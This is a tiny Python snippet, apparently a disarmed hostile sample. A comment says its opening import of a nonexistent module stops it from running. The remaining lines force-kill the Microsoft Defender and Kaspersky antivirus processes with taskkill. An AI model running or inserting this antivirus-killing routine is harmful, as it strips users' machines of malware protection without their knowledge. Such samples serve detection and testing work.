import inert_sample  # there is no such module: nothing below ever runs
import os

for name in ("MsMpEng.exe", "avp.exe"):
    os.system("taskkill /f /im " + name)
